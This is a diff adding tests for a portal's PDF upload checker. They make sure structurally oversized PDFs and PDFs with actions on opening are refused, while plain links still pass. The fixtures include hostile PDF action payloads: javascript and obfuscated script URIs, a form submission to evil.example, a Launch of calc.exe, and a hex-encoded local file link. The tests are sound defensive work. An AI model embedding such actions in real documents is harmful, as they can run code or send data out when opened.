@@ -4,7 +4,9 @@ import io
 import pytest
 from pypdf import PdfWriter
 
+from portal import pdf
 from portal.pdf import MAX_BYTES, PdfError, check_pdf
+from tests import hostile_files
 
 
 def pdf_bytes(pages=1, password=None):
@@ -37,3 +39,77 @@ def test_what_is_not_a_usable_pdf_is_refused(content, reason):
 def test_a_password_protected_pdf_is_refused():
     with pytest.raises(PdfError, match="password"):
         check_pdf(pdf_bytes(password="secret"))
+
+
+# A file's structure bounds the work spent on it (issue: a crafted PDF cost seconds of a worker).
+@pytest.mark.parametrize("hostile", [
+    lambda: hostile_files.raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *hostile_files.PAGES, hostile_files.PAGE],
+                                  revisions=pdf.MAX_REVISIONS + 1),
+    lambda: hostile_files.chain_of_objects(pdf.MAX_OBJECTS + 1),
+    lambda: hostile_files.many_pages(pdf.MAX_PAGES + 1),
+], ids=["revisions", "objects", "pages"])
+def test_a_pdf_beyond_the_bounds_of_its_structure_is_refused_plainly(hostile):
+    with pytest.raises(PdfError) as refused:
+        check_pdf(hostile())
+    assert "too complex" in str(refused.value)
+
+
+def test_the_objects_a_check_may_read_are_bounded_however_few_the_file_declares(monkeypatch):
+    """Under every declared bound, a chain of references still stops the walk at its budget."""
+    monkeypatch.setattr(pdf, "MAX_RESOLVED", 50)
+    check_pdf(hostile_files.chain_of_objects(40))
+    with pytest.raises(PdfError, match="too complex"):
+        check_pdf(hostile_files.chain_of_objects(60))
+
+
+def test_within_the_bounds_a_pdf_of_many_pages_and_revisions_passes():
+    check_pdf(hostile_files.many_pages(300))
+    check_pdf(hostile_files.raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *hostile_files.PAGES,
+                                     hostile_files.PAGE], revisions=20))
+
+
+def test_a_file_is_parsed_once(monkeypatch):
+    readers = []
+
+    class CountingReader(pdf.PdfReader):
+        def __init__(self, *args, **kwargs):
+            readers.append(1)
+            super().__init__(*args, **kwargs)
+
+    monkeypatch.setattr(pdf, "PdfReader", CountingReader)
+    from portal import documents
+    documents.check(pdf_bytes())
+    assert len(readers) == 1
+
+
+# Nothing in a PDF acts when it is opened (docs/security.md), at every upload, the proofs included.
+@pytest.mark.parametrize("catalog,page", [
+    (b"/OpenAction << /S /URI /URI (javascript:app.alert(1)) >>", b""),
+    (b"/OpenAction 5 0 R", b""),
+    (b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>", b""),
+    (b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>", b""),
+    (b"/AA << /WC << /S /URI /URI (https://evil.example/closed) >> >>", b""),
+    (b"", b"/AA << /O << /S /Named /N /Print >> >>"),
+    (b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (java\tscript:x) >> >>]"),
+    (b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <66696c653a2f2f2f6574632f> >> >>]"),
+], ids=["uri-on-opening", "indirect-action-on-opening", "remote-file-on-opening", "submit-form-on-opening",
+        "on-closing", "on-page-open", "script-link", "file-link-in-hex"])
+def test_a_pdf_that_acts_is_refused(catalog, page):
+    data = hostile_files.plain_pdf(catalog, page)
+    if b"5 0 R" in catalog:
+        data = hostile_files.raw_pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", *hostile_files.PAGES,
+                                      hostile_files.PAGE, b"null", b"<< /S /Launch /F (calc.exe) >>"])
+    with pytest.raises(PdfError) as refused:
+        check_pdf(data)
+    assert "action on opening" in str(refused.value)
+
+
+@pytest.mark.parametrize("catalog,page", [
+    (b"/OpenAction [3 0 R /Fit]", b""),
+    (b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.afmps.be/) >> >>]"),
+    (b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:info@afmps.be) >> >>]"),
+    (b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>]"),
+    (b"/URI << /Base (https://www.afmps.be/) >>", b""),
+], ids=["show-first-page", "web-link", "mail-link", "page-link", "base-address"])
+def test_plain_links_and_destinations_stay_allowed(catalog, page):
+    check_pdf(hostile_files.plain_pdf(catalog, page))
